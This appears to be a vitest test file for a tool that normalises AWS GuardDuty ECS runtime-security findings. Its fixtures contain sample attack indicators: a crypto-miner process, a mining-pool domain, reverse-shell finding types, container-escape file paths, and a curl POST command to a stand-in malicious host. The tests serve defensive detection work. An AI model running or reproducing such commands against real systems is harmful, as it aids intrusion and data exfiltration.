import { describe, expect, it } from 'vitest';
import { ErrorCode, isEcsGuardError } from '../../src/errors.js';
import { isEcsRuntimeFinding, normaliseFinding, toIso } from '../../src/findings/normalise.js';
import { severityAtLeast, severityLabel } from '../../src/findings/severity.js';
import { EVENTBRIDGE, fixture, SDK, sdkFixture, WIRE, WIRE_FIXTURES } from './fixtures.js';

// biome-ignore lint/suspicious/noExplicitAny: tests poke into raw fixture JSON
type Any = any;
const clone = <T>(v: T): T => structuredClone(v);

describe('normaliseFinding: the synthetic ECS/Fargate runtime finding', () => {
  const wire = normaliseFinding(fixture(WIRE));

  it('reads every field from the wire JSON', () => {
    expect(wire).toMatchObject({
      id: 'e6c8f0b5a1d24c3f9b7a0c1d2e3f4a5b',
      type: 'Execution:Runtime/NewBinaryExecuted',
      severity: 5,
      severityLabel: 'Medium',
      accountId: '123456789012',
      region: 'us-east-1',
      partition: 'aws',
      detectorId: '12abc34d567e8fa901bc2d34e56789f0',
      clusterName: 'prod-web',
      clusterArn: 'arn:aws:ecs:us-east-1:123456789012:cluster/prod-web',
      taskArn: 'arn:aws:ecs:us-east-1:123456789012:task/prod-web/36ad4ef947bb470b89010d864574237e',
      taskId: '36ad4ef947bb470b89010d864574237e',
      taskDefinition: 'webserver:5',
      taskFamily: 'webserver',
      launchType: 'FARGATE',
      service: 'webserver',
      group: 'service:webserver',
      startedBy: 'ecs-svc/1234567890123456789',
      container: {
        name: 'web',
        image: '123456789012.dkr.ecr.us-east-1.amazonaws.com/webserver:1.4.2',
        privileged: false,
      },
      count: 1,
      firstSeen: '2025-02-03T20:36:40.000Z',
      lastSeen: '2025-02-03T20:36:40.000Z',
      createdAt: '2025-02-03T20:41:12.345Z',
      updatedAt: '2025-02-03T20:41:12.345Z',
      archived: false,
      sample: false,
      resourceType: 'ECSCluster',
      featureName: 'RuntimeMonitoring',
    });
    expect(wire.container?.imageDigest).toBeUndefined();
    expect(wire.process).toMatchObject({
      name: 'xmr',
      executablePath: '/tmp/xmr',
      executableSha256: '0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0',
      pid: 1337,
      user: 'root',
      uid: 0,
      workingDirectory: '/tmp',
    });
    // Parent first: sh (the direct parent of xmr) before node.
    expect(wire.process?.lineage.map((l) => l.name)).toEqual(['sh', 'node']);
    expect(isEcsRuntimeFinding(wire)).toBe(true);
  });

  it('gives the same Finding from the SDK v3 object (PascalCase, Dates)', () => {
    const raw = sdkFixture(SDK);
    expect(
      (raw.Resource as { EcsClusterDetails: { TaskDetails: { TaskCreatedAt: unknown } } }).EcsClusterDetails
        .TaskDetails.TaskCreatedAt,
    ).toBeInstanceOf(Date);
    expect(normaliseFinding(raw)).toEqual(wire);
  });

  it('gives the same Finding from the EventBridge event and from its detail', () => {
    const event = fixture(EVENTBRIDGE);
    expect(normaliseFinding(event)).toEqual(wire);
    expect(normaliseFinding(event.detail)).toEqual(wire);
  });

  it('survives a JSON round trip of the SDK object (Dates become ISO strings)', () => {
    expect(normaliseFinding(JSON.parse(JSON.stringify(sdkFixture(SDK))))).toEqual(wire);
  });
});

describe('normaliseFinding: real public samples', () => {
  it.each(WIRE_FIXTURES)('normalises %s without throwing', (name) => {
    const f = normaliseFinding(fixture(name));
    expect(f.id).toBeTruthy();
    expect(f.runtime).toBeDefined();
    expect(f.updatedAt).toMatch(/^\d{4}-\d\d-\d\dT/);
  });

  it('reads exponent-notation epoch seconds and the flattened sample flag (SEKOIA ECS sample)', () => {
    const f = normaliseFinding(fixture('sekoia-event_ecscluster.finding.json'));
    expect(f).toMatchObject({
      clusterName: 'GeneratedFindingECSClusterName',
      taskId: '043de9ab3',
      container: { name: 'GeneratedFindingContainerName', image: 'GeneratedFindingContainerImage' },
      sample: true,
      severityLabel: 'High',
      featureName: 'EbsVolumeScan',
    });
    // Malware Protection on ECS is not a runtime finding.
    expect(isEcsRuntimeFinding(f)).toBe(false);
    expect(toIso(1.63900583e9)).toBe('2021-12-08T23:23:50.000Z');
    expect(toIso('1.63900583E9')).toBe('2021-12-08T23:23:50.000Z');
  });

  it('parses the verbatim wire text with an upper-case exponent timestamp', () => {
    const text =
      '{"id":"x1","type":"Execution:Runtime/ReverseShell","accountId":"111111111111","region":"eu-west-2",' +
      '"resource":{"resourceType":"ECSCluster","ecsClusterDetails":{"name":"c","taskDetails":' +
      '{"arn":"arn:aws:ecs:eu-west-2:111111111111:task/c/abc","createdAt":1.63900583E9,"startedAt":1.63900583E9}}}}';
    const f = normaliseFinding(JSON.parse(text));
    expect(f.taskId).toBe('abc');
    expect(f.clusterName).toBe('c');
  });

  it('detects samples from additionalInfo.value alone (SDK shape) and reads "false" strings', () => {
    const raw = clone(sdkFixture(SDK));
    const service = raw.Service as Record<string, unknown>;
    service.AdditionalInfo = {
      Value: '{"sample":true,"agentDetails":{"agentVersion":"1"}}',
      Type: 'default',
    };
    service.Archived = 'false';
    expect(normaliseFinding(raw)).toMatchObject({ sample: true, archived: false });
    service.AdditionalInfo = { Value: 'not json {sample', Type: 'default' };
    service.Archived = true;
    expect(normaliseFinding(raw)).toMatchObject({ sample: false, archived: true });
  });

  it('reads a runtime finding on a Container resource with every context field (Elastic)', () => {
    const f = normaliseFinding(fixture('elastic-container-runtime-dockersocketaccessed.finding.json'));
    expect(f.resourceType).toBe('Container');
    expect(isEcsRuntimeFinding(f)).toBe(false);
    expect(f.container?.id).toBe('abcd1234');
    expect(f.process?.lineage).toEqual([
      { name: 'sshd', pid: 123, executablePath: undefined, userId: undefined },
      { name: 'apache2', pid: 456, executablePath: undefined, userId: undefined },
    ]);
    expect(f.process?.commandLine).toBe('/usr/bin/curl -X POST http://malicious.example.com');
    expect(f.runtime.files).toContain('/var/run/docker.sock');
    expect(f.runtime.files).toContain('/mnt/container/release_agent');
    expect(f.runtime.modifyingProcess).toEqual({ name: 'bash', pid: 2451, executablePath: undefined });
    expect(f.runtime.other).toMatchObject({
      toolName: 'SSH Backdoor',
      ianaProtocolNumber: '6',
      flags: 'ro',
      modifiedAt: '2024-10-07T18:45:30.000Z',
      targetProcess: 'sshd (pid 3124)',
    });
    // Handled keys are not repeated in `other`.
    expect(f.runtime.other.socketPath).toBeUndefined();
    expect(f.runtime.other.commandLineExample).toBeUndefined();
  });

  it('collects DNS domains and remote IPs from the action', () => {
    const raw = clone(fixture(WIRE));
    const service = raw.service as Record<string, unknown>;
    service.action = {
      actionType: 'DNS_REQUEST',
      dnsRequestAction: { domain: 'pool.minexmr.example', protocol: 'UDP', blocked: false },
      networkConnectionAction: { remoteIpDetails: { ipAddressV4: '198.51.100.7' } },
    };
    const f = normaliseFinding(raw);
    expect(f.runtime.domains).toEqual(['pool.minexmr.example']);
    expect(f.runtime.ips).toEqual(['198.51.100.7']);
  });

  it('throws InvalidInput for an event that is not a full finding (gd2acl detail-only sample)', () => {
    try {
      normaliseFinding(fixture('aws-samples-gd2acl_test_event.eventbridge-detail-only.json'));
      expect.unreachable();
    } catch (e) {
      expect(isEcsGuardError(e, ErrorCode.InvalidInput)).toBe(true);
      expect((e as Error).message).toMatch(/id/);
    }
  });
});

describe('normaliseFinding: the GuardDuty agent sidecar', () => {
  const sidecar = {
    name: 'aws-guardduty-agent-mfjGLB',
    image: '323658145986.dkr.ecr.eu-central-1.amazonaws.com/aws-guardduty-agent-fargate:v1.5.0-Fg_arm64',
  };

  it('is never picked as the affected container, in either order or shape', () => {
    const raw = clone(fixture(WIRE));
    const task = (raw.resource as Any).ecsClusterDetails.taskDetails;
    const app = task.containers[0];
    task.containers = [sidecar, app];
    expect(normaliseFinding(raw).container?.name).toBe('web');
    task.containers = [app, sidecar];
    expect(normaliseFinding(raw).container?.name).toBe('web');

    const sdk = clone(sdkFixture(SDK));
    const sdkTask = (sdk.Resource as Any).EcsClusterDetails.TaskDetails;
    sdkTask.Containers = [{ Name: sidecar.name, Image: sidecar.image }, sdkTask.Containers[0]];
    expect(normaliseFinding(sdk).container?.name).toBe('web');
  });

  it('is recognised by image even under another name, and leaves no container when it is the only one', () => {
    const raw = clone(fixture(WIRE));
    const task = (raw.resource as Any).ecsClusterDetails.taskDetails;
    task.containers = [{ name: 'agent', image: sidecar.image }];
    expect(normaliseFinding(raw).container).toBeUndefined();
  });

  it('a container only named like the agent is still the affected container', () => {
    const raw = clone(fixture(WIRE));
    const task = (raw.resource as Any).ecsClusterDetails.taskDetails;
    task.containers = [{ name: sidecar.name, image: 'docker.io/evil/aws-guardduty-agent-fargate:v1' }];
    expect(normaliseFinding(raw).container?.name).toBe(sidecar.name);
  });

  it('extracts the image digest from image@sha256:…', () => {
    const raw = clone(fixture(WIRE));
    const digest = `sha256:${'ab'.repeat(32)}`;
    (raw.resource as Any).ecsClusterDetails.taskDetails.containers[0].image = `repo/web@${digest}`;
    expect(normaliseFinding(raw).container?.imageDigest).toBe(digest);
  });
});

describe('normaliseFinding: missing and odd fields', () => {
  const minimal = {
    id: 'abc',
    type: 'Execution:Runtime/ReverseShell',
    accountId: '111122223333',
    region: 'eu-west-1',
  };

  it('accepts a minimal finding and fills safe defaults', () => {
    const f = normaliseFinding(minimal, { now: Date.UTC(2025, 0, 1) });
    expect(f).toMatchObject({
      id: 'abc',
      severity: 0,
      severityLabel: 'Low',
      title: 'Execution:Runtime/ReverseShell',
      description: '',
      partition: 'aws',
      count: 1,
      archived: false,
      sample: false,
      resourceType: '',
      updatedAt: '2025-01-01T00:00:00.000Z',
      runtime: { files: [], domains: [], ips: [], other: {} },
    });
    expect(f.container).toBeUndefined();
    expect(f.process).toBeUndefined();
    expect(f.clusterName).toBeUndefined();
  });

  it.each(['id', 'type', 'accountId', 'region'])('throws InvalidInput without %s', (key) => {
    const raw: Record<string, unknown> = { ...minimal };
    delete raw[key];
    expect(() => normaliseFinding(raw)).toThrow(expect.objectContaining({ code: ErrorCode.InvalidInput }));
  });

  it.each([null, undefined, 42, 'finding', []])('throws InvalidInput for %j', (raw) => {
    expect(() => normaliseFinding(raw)).toThrow(expect.objectContaining({ code: ErrorCode.InvalidInput }));
  });

  it('tolerates nulls, wrong types and a task group of family:x', () => {
    const f = normaliseFinding({
      ...minimal,
      severity: '8.5',
      resource: {
        resourceType: 'ECSCluster',
        ecsClusterDetails: {
          arn: 'arn:aws:ecs:eu-west-1:111122223333:cluster/batch',
          taskDetails: { arn: null, containers: 'nope', group: 'family:nightly', launchType: 'Fargate' },
        },
      },
      service: { count: 'x', runtimeDetails: { process: null, context: null }, additionalInfo: null },
    });
    expect(f).toMatchObject({
      severity: 8.5,
      severityLabel: 'High',
      clusterName: 'batch',
      taskFamily: 'nightly',
      launchType: 'FARGATE',
      count: 1,
    });
    expect(f.service).toBeUndefined();
    expect(f.taskArn).toBeUndefined();
  });

  it('does not let a hostile key pollute prototypes', () => {
    const raw = JSON.parse(`{"id":"a","type":"t","accountId":"1","region":"r","__proto__":{"polluted":1}}`);
    normaliseFinding(raw);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('orders lineage parent first even when the source lists the root first', () => {
    const f = normaliseFinding({
      ...minimal,
      service: {
        runtimeDetails: {
          process: {
            name: 'xmr',
            parentUuid: 'p',
            lineage: [
              { name: 'init', uuid: 'root' },
              { name: 'sh', uuid: 'p' },
            ],
          },
        },
      },
    });
    expect(f.process?.lineage.map((l) => l.name)).toEqual(['sh', 'init']);
  });
});

describe('severity', () => {
  it.each([
    [0, 'Low'],
    [1, 'Low'],
    [3.9, 'Low'],
    [4, 'Medium'],
    [6.9, 'Medium'],
    [7, 'High'],
    [8.9, 'High'],
    [9, 'Critical'],
    [10, 'Critical'],
    [Number.NaN, 'Low'],
  ] as const)('%d is %s', (n, label) => {
    expect(severityLabel(n)).toBe(label);
  });

  it('compares labels', () => {
    expect(severityAtLeast({ severityLabel: 'High' }, 'Medium')).toBe(true);
    expect(severityAtLeast({ severityLabel: 'Medium' }, 'Medium')).toBe(true);
    expect(severityAtLeast({ severityLabel: 'Low' }, 'Medium')).toBe(false);
    expect(severityAtLeast({ severityLabel: 'Critical' }, 'Critical')).toBe(true);
  });

  it('classifies ECS runtime findings', () => {
    expect(
      isEcsRuntimeFinding({
        resourceType: 'ECSCluster',
        featureName: undefined,
        type: 'Execution:Runtime/X',
      }),
    ).toBe(true);
    expect(
      isEcsRuntimeFinding({ resourceType: 'ECSCluster', featureName: 'RuntimeMonitoring', type: 'Foo' }),
    ).toBe(true);
    expect(
      isEcsRuntimeFinding({
        resourceType: 'Instance',
        featureName: 'RuntimeMonitoring',
        type: 'Execution:Runtime/X',
      }),
    ).toBe(false);
    expect(
      isEcsRuntimeFinding({
        resourceType: 'ECSCluster',
        featureName: 'EbsVolumeScan',
        type: 'Execution:ECS/MaliciousFile',
      }),
    ).toBe(false);
  });
});
